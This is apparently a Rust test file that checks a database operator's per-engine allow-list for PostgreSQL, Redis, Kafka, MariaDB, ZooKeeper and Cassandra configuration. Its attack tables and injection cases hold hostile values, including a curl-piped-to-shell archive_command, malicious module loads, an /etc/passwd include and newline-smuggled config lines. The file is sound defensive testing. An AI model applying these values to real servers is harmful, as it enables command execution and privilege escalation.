//! Issue #12, item 2: engine parameters are an allow-list per engine. Every key that would run a
//! command, load code, include a file or move the engine's files is refused, naming the field and
//! saying what is allowed; values are parsed as their type and range. Create, the REST API, the
//! controller and `config` operations all go through `plan`, so refusing here refuses there.

use std::collections::BTreeMap;

use firecamp_catalog::examples::spec;
use firecamp_catalog::layout::KubernetesLayout;
use firecamp_catalog::operation::change;
use firecamp_catalog::params::{allowed, docs_table, lookup};
use firecamp_catalog::plan;
use firecamp_core::operation::{OperationKind, OperationRequest};
use firecamp_core::{ClusterConfig, EngineKind, ServiceSpec, ValidationErrors};
use proptest::prelude::*;

use EngineKind::*;

fn name(e: EngineKind) -> &'static str {
    match e {
        Postgresql => "pg",
        Redis => "rd",
        Zookeeper => "zk",
        Kafka => "kf",
        Mariadb => "md",
        Cassandra => "cs",
    }
}

fn try_plan(e: EngineKind, s: &ServiceSpec) -> Result<(), ValidationErrors> {
    plan(name(e), s, &ClusterConfig::new("prod"), &KubernetesLayout::default(), &BTreeMap::new()).map(|_| ())
}

fn with(e: EngineKind, key: &str, value: &str) -> ServiceSpec {
    let mut s = spec(e, 3);
    s.config.insert(key.into(), value.into());
    s
}

/// Refused, with an error on exactly `field` whose message says what to do.
fn refused_on(e: EngineKind, s: &ServiceSpec, field: &str) -> String {
    let errs = try_plan(e, s).expect_err(field);
    let f = errs.0.iter().find(|f| f.field == field).unwrap_or_else(|| panic!("no error on {field}: {errs}"));
    f.message.clone()
}

const PG_ATTACKS: &[(&str, &str)] = &[
    ("archive_command", "sh -c 'curl evil | sh'"),
    ("restore_command", "sh -c id"),
    ("archive_library", "/tmp/evil.so"),
    ("ssl_passphrase_command", "sh -c id"),
    ("shared_preload_libraries", "/tmp/evil.so"),
    ("session_preload_libraries", "evil"),
    ("local_preload_libraries", "evil"),
    ("dynamic_library_path", "/tmp"),
    ("include", "/etc/passwd"),
    ("include_if_exists", "/tmp/x.conf"),
    ("include_dir", "/tmp"),
    ("archive_mode", "on"),
    ("data_directory", "/tmp"),
];
const REDIS_ATTACKS: &[(&str, &str)] = &[
    ("loadmodule", "/tmp/evil.so"),
    ("aclfile", "/tmp/users.acl"),
    ("user", "evil on nopass ~* +@all"),
    ("rename-command", "CONFIG \"\""),
    ("enable-debug-command", "yes"),
    ("enable-module-command", "yes"),
    ("dir", "/etc"),
    ("dbfilename", "authorized_keys"),
    ("include", "/tmp/x.conf"),
    ("unixsocketperm", "777"),
];
const ZOOKEEPER_ATTACKS: &[(&str, &str)] = &[
    ("jute.maxbuffer", "1"),
    ("java.library.path", "/tmp"),
    ("authProvider.1", "org.evil.Provider"),
    ("serverCnxnFactory", "org.evil.Factory"),
    ("dataDir", "/tmp"),
    ("4lw.commands.whitelist", "*"),
    ("server.4", "evil:2888:3888"),
    ("ssl.keyStore.location", "/tmp/k"),
];

const KAFKA_ATTACKS: &[(&str, &str)] = &[
    ("authorizer.class.name", "org.evil.Authorizer"),
    ("metric.reporters", "org.evil.Reporter"),
    ("config.providers", "file"),
    ("sasl.jaas.config", "org.evil.LoginModule required;"),
    ("principal.builder.class", "org.evil.Builder"),
    ("listeners", "PLAINTEXT://0.0.0.0:9092"),
    ("advertised.listeners", "PLAINTEXT://evil:9092"),
    ("listener.security.protocol.map", "CLIENT:PLAINTEXT"),
    ("controller.quorum.voters", "9@evil:9093"),
    ("ssl.keystore.location", "/tmp/k"),
    ("log.dirs", "/etc"),
    ("super.users", "User:ANONYMOUS"),
    ("broker.rack", "elsewhere"),
];

const MARIADB_ATTACKS: &[(&str, &str)] = &[
    ("init_file", "/tmp/evil.sql"),
    ("init_connect", "GRANT ALL ON *.* TO evil"),
    ("plugin_load_add", "evil.so"),
    ("plugin_dir", "/tmp"),
    ("secure_file_priv", ""),
    ("general_log_file", "/etc/cron.d/x"),
    ("slow_query_log_file", "/etc/cron.d/x"),
    ("log_error", "/etc/passwd"),
    ("datadir", "/etc"),
    ("tmpdir", "/etc"),
    ("socket", "/tmp/evil.sock"),
    ("bind_address", "0.0.0.0"),
    ("require_secure_transport", "OFF"),
    ("ssl_ca", "/tmp/evil.crt"),
    ("read_only", "OFF"),
    ("server_id", "1"),
    ("gtid_strict_mode", "OFF"),
    ("skip_grant_tables", "ON"),
    ("local_infile", "ON"),
];

/// Cassandra: user-defined functions run Java or JavaScript inside the server; the addresses,
/// directories, security and the ring's identity are FireCamp's.
const CASSANDRA_ATTACKS: &[(&str, &str)] = &[
    ("user_defined_functions_enabled", "true"),
    ("scripted_user_defined_functions_enabled", "true"),
    ("enable_user_defined_functions", "true"),
    ("authenticator", "AllowAllAuthenticator"),
    ("authorizer", "AllowAllAuthorizer"),
    ("client_encryption_options", "{enabled: false}"),
    ("server_encryption_options", "{internode_encryption: none}"),
    ("listen_address", "0.0.0.0"),
    ("rpc_address", "0.0.0.0"),
    ("native_transport_port", "9999"),
    ("data_file_directories", "[/etc]"),
    ("commitlog_directory", "/etc"),
    ("hints_directory", "/tmp"),
    ("seed_provider", "evil"),
    ("cluster_name", "other"),
    ("endpoint_snitch", "SimpleSnitch"),
    ("full_query_logging_options", "{archive_command: /bin/sh -c id}"),
    ("audit_logging_options", "{archive_command: /bin/sh -c id}"),
    ("jmx_server_options", "{enabled: true}"),
];

fn attacks(e: EngineKind) -> &'static [(&'static str, &'static str)] {
    match e {
        Postgresql => PG_ATTACKS,
        Redis => REDIS_ATTACKS,
        Zookeeper => ZOOKEEPER_ATTACKS,
        Kafka => KAFKA_ATTACKS,
        Mariadb => MARIADB_ATTACKS,
        Cassandra => CASSANDRA_ATTACKS,
    }
}

#[test]
fn keys_that_run_commands_load_code_or_move_files_are_refused_in_config_and_member_config() {
    for e in [Postgresql, Redis, Zookeeper, Kafka, Mariadb, Cassandra] {
        for (k, v) in attacks(e) {
            let msg = refused_on(e, &with(e, k, v), &format!("spec.config.{k}"));
            assert!(msg.contains("not an allowed") || msg.contains("FireCamp sets"), "{k}: {msg}");
            if msg.contains("not an allowed") {
                assert!(msg.contains(&format!("docs/service-spec.md#{}-parameters", e.as_str())), "says what is allowed: {msg}");
            }
            let mut s = spec(e, 3);
            let member = format!("{}-1", name(e));
            s.member_config.insert(member.clone(), BTreeMap::from([(k.to_string(), v.to_string())]));
            refused_on(e, &s, &format!("spec.memberConfig.{member}.{k}"));
        }
    }
}

#[test]
fn owned_keys_keep_their_reason() {
    let msg = refused_on(Redis, &with(Redis, "rename-command", "FLUSHALL x"), "spec.config.rename-command");
    assert!(msg.starts_with("FireCamp sets rename-command itself"), "{msg}");
    let msg = refused_on(Postgresql, &with(Postgresql, "max_connections", "500"), "spec.config.max_connections");
    assert!(msg.contains("spec.postgresql.maxConnections"), "{msg}");
    let msg = refused_on(Redis, &with(Redis, "maxmemory-policy", "allkeys-lru"), "spec.config.maxmemory-policy");
    assert!(msg.contains("spec.redis.maxmemoryPolicy"), "{msg}");
    let msg = refused_on(Mariadb, &with(Mariadb, "max_connections", "500"), "spec.config.max_connections");
    assert!(msg.contains("spec.mariadb.maxConnections"), "{msg}");
    let msg = refused_on(Mariadb, &with(Mariadb, "read_only", "OFF"), "spec.config.read_only");
    assert!(msg.contains("replicas are read-only"), "{msg}");
}

#[test]
fn values_out_of_range_of_the_wrong_type_or_not_in_the_enum_say_what_is_expected() {
    let cases: &[(EngineKind, &str, &str, &str)] = &[
        (Postgresql, "shared_buffers", "banana", "memory with a unit B, kB, MB, GB or TB"),
        (Postgresql, "shared_buffers", "64kB", "128kB to"),
        (Postgresql, "work_mem", "8MB'\narchive_command = 'sh", "memory"),
        (Postgresql, "checkpoint_timeout", "10s", "30s to 1d"),
        (Postgresql, "random_page_cost", "-1", "a number from 0 to"),
        (Postgresql, "default_transaction_isolation", "chaos", "one of `serializable`"),
        (Postgresql, "timezone", "UTC'; include '/etc/passwd", "characters"),
        (Postgresql, "synchronous_commit", "maybe", "`remote_apply`"),
        (Redis, "appendfsync", "sometimes", "one of `always`, `everysec`, `no`"),
        (Mariadb, "sql_mode", "ANSI'\ninit_file=/tmp/x", "characters"),
        (Mariadb, "innodb_buffer_pool_size", "1G", "an integer"),
        (Mariadb, "innodb_flush_log_at_trx_commit", "5", "one of `0`"),
        (Redis, "hz", "0", "an integer from 1 to 500"),
        (Redis, "hz", "10\nloadmodule /tmp/evil.so", "an integer"),
        (Redis, "maxmemory", "1tb", "up to 16384gb"),
        (Redis, "save", "60", "pairs"),
        (Redis, "notify-keyspace-events", "KEA\nloadmodule /x", "characters"),
        (Redis, "appendonly", "true", "`yes`, `no`"),
        (Zookeeper, "tickTime", "0", "an integer from 1"),
        (Zookeeper, "autopurge.snapRetainCount", "2", "from 3"),
        (Zookeeper, "localSessionsEnabled", "yes", "`true`, `false`"),
    ];
    for (e, k, v, want) in cases {
        let msg = refused_on(*e, &with(*e, k, v), &format!("spec.config.{k}"));
        assert!(msg.contains(want) && msg.contains(k), "{k}={v:?}: want {want:?} in {msg:?}");
    }
}

#[test]
fn tuning_parameters_are_accepted_and_rendered_as_given() {
    let cases: &[(EngineKind, &str, &str)] = &[
        (Postgresql, "shared_buffers", "2GB"),
        (Postgresql, "work_mem", "16MB"),
        (Postgresql, "wal_buffers", "-1"),
        (Postgresql, "checkpoint_timeout", "15min"),
        (Postgresql, "random_page_cost", "1.1"),
        (Postgresql, "log_min_duration_statement", "250ms"),
        (Postgresql, "default_transaction_isolation", "read committed"),
        (Postgresql, "timezone", "Europe/Paris"),
        (Postgresql, "autovacuum_vacuum_scale_factor", "0.05"),
        (Redis, "maxmemory", "512mb"),
        (Redis, "save", "\"\""),
        (Redis, "save", "900 1 300 10"),
        (Redis, "notify-keyspace-events", "Ex"),
        (Redis, "slowlog-log-slower-than", "-1"),
        (Redis, "list-max-listpack-size", "-2"),
        (Zookeeper, "tickTime", "3000"),
        (Zookeeper, "autopurge.purgeInterval", "1"),
        (Zookeeper, "snapCount", "50000"),
    ];
    for (e, k, v) in cases {
        let s = with(*e, k, v);
        try_plan(*e, &s).unwrap_or_else(|err| panic!("{k}={v}: {err}"));
    }
}

#[test]
fn no_allowed_key_is_one_firecamp_sets() {
    for e in [Postgresql, Redis, Zookeeper, Kafka] {
        for p in allowed(e) {
            assert!(firecamp_catalog::engine(e).owned_config_key(p.key).is_none(), "{e}: {}", p.key);
        }
    }
}

#[test]
fn a_typo_gets_a_suggestion() {
    let msg = refused_on(Postgresql, &with(Postgresql, "work_mme", "8MB"), "spec.config.work_mme");
    assert!(msg.contains("did you mean work_mem?"), "{msg}");
}

#[test]
fn a_config_operation_with_a_refused_key_or_value_is_refused_before_anything_is_recorded() {
    // The manage service and the local runtime both take `change` and then `plan` the new spec.
    for (e, k, v) in [(Redis, "loadmodule", "/tmp/evil.so"), (Postgresql, "archive_command", "sh -c id"), (Zookeeper, "tickTime", "-5")] {
        let mut req = OperationRequest { kind: Some(OperationKind::Config), ..Default::default() };
        req.config.insert(k.into(), v.into());
        let next = change(&spec(e, 3), &req).expect("the request itself is well formed");
        refused_on(e, &next.spec, &format!("spec.config.{k}"));
    }
}

#[test]
fn docs_list_exactly_the_allowed_parameters() {
    let docs = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/service-spec.md")).unwrap();
    for e in EngineKind::ALL {
        assert!(
            docs.contains(&docs_table(e)),
            "docs/service-spec.md lacks the current table of {e}; paste firecamp_catalog::params::docs_table:\n{}",
            docs_table(e)
        );
    }
}

/// Keys an attacker would try, keys users set, and anything at all.
fn any_key() -> impl Strategy<Value = String> {
    let known: Vec<String> =
        EngineKind::ALL.iter().flat_map(|e| allowed(*e).iter().map(|p| p.key.to_string()).chain(attacks(*e).iter().map(|(k, _)| k.to_string()))).collect();
    prop_oneof![proptest::sample::select(known), "[a-zA-Z0-9_.-]{1,30}", any::<String>()]
}

fn any_value() -> impl Strategy<Value = String> {
    let samples =
        ["8MB", "-1", "0", "1.5", "on", "yes", "true", "\"\"", "3600 1", "30s", "1e9", "", " ", "'", "a\nb", "99999999999999999999"].map(String::from);
    prop_oneof![proptest::sample::select(samples.to_vec()), "[0-9]{1,12}(kB|MB|GB|ms|s|min|mb|gb)?", any::<String>()]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    /// An allowed key is accepted exactly when its value parses as its type and range.
    #[test]
    fn an_allowed_key_is_accepted_exactly_when_its_value_checks(
        e in proptest::sample::select(EngineKind::ALL.to_vec()),
        i in any::<proptest::sample::Index>(),
        value in any_value(),
    ) {
        let param = i.get(allowed(e));
        let owned = firecamp_catalog::engine(e).owned_config_key(param.key).is_some();
        let ok = try_plan(e, &with(e, param.key, &value)).is_ok();
        prop_assert_eq!(ok, !owned && !value.is_empty() && param.check(&value).is_ok(), "{}={:?}", param.key, value);
    }

    /// Whatever the keys and values: no panic; every refusal names a field under spec.config or
    /// spec.memberConfig; an accepted key is on the engine's allow-list with a value it accepts,
    /// and lands in the config file as one line.
    #[test]
    fn arbitrary_parameters_are_accepted_only_from_the_allow_list(
        e in proptest::sample::select(EngineKind::ALL.to_vec()),
        config in proptest::collection::btree_map(any_key(), any_value(), 0..4),
        member_params in proptest::collection::btree_map(any_key(), any_value(), 0..3),
        member in prop_oneof![Just("-1".to_string()), Just("-7".to_string()), any::<String>()],
    ) {
        let mut s = spec(e, 3);
        s.config = config.clone();
        let member = if member.starts_with('-') { format!("{}{member}", name(e)) } else { member };
        if !member_params.is_empty() {
            s.member_config.insert(member.clone(), member_params.clone());
        }
        match plan(name(e), &s, &ClusterConfig::new("prod"), &KubernetesLayout::default(), &BTreeMap::new()) {
            Err(errs) => {
                prop_assert!(!errs.0.is_empty());
                for f in &errs.0 {
                    prop_assert!(f.field.starts_with("spec.config.") || f.field.starts_with("spec.memberConfig."), "{f:?}");
                    prop_assert!(!f.message.is_empty());
                }
            }
            Ok(p) => {
                for (k, v) in config.iter().chain(member_params.iter()) {
                    let param = lookup(e, k);
                    prop_assert!(param.is_some(), "{k} accepted but not on the allow-list");
                    prop_assert!(param.unwrap().check(v).is_ok(), "{k}={v:?}");
                    prop_assert!(!v.contains(['\n', '\r', '\'', '\\']), "{k}={v:?}");
                }
                let file = match e { Postgresql => "postgresql.conf", Redis => "redis.conf", Zookeeper => "zoo.cfg", Kafka => "server.properties", Mariadb => "my.cnf", Cassandra => "cassandra.yaml" };
                let m = p.members.iter().find(|m| m.member.name.as_str() == format!("{}-0", name(e))).unwrap();
                let conf = &m.files.iter().find(|f| f.name == file).unwrap().content;
                if !config.is_empty() {
                    let tail = conf.rsplit("they win over the lines above.\n").next().unwrap();
                    prop_assert_eq!(tail.lines().count(), config.len(), "{}", conf);
                }
            }
        }
    }
}
